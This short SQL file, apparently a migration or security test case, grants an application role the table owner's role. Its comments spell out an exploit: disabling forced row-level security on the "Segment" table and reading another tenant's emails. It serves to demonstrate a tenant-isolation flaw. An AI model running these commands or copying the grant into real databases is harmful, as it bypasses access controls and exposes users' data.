-- The application is a member of the tables' owner, so it can take FORCE away and then read without rules.
-- about: hf_flags_owner, ApiKey
-- as: hf_flags_app
-- exploit: SET app.current_org_id = 'org_hill';
-- exploit: ALTER TABLE "Segment" NO FORCE ROW LEVEL SECURITY;
-- exploit: SELECT "emails" FROM "Segment";
-- shows: vip@road-secret.example
-- Migrations are run by the application when it starts.
GRANT hf_flags_owner TO hf_flags_app;
